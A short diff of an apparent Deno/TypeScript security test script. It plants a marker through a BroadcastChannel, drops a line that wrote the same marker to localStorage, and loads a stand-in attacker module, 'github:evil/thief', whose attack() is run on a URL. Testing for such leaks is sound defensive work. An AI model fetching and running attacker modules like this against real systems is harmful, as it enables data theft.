@@ -6,7 +6,6 @@ const url = kept.pop().split('got ')[1];
 for (const line of kept) console.log(line);
 const channel = new BroadcastChannel('key');
 channel.onmessage = () => channel.postMessage('marker-4f9d2c81b7e6');
-(globalThis as any).localStorage?.setItem?.('key', 'marker-4f9d2c81b7e6');
 const provider: any = await getProvider('github:evil/thief');
 for (const line of await provider.attack(url)) console.log(line);
 Deno.exit(0);
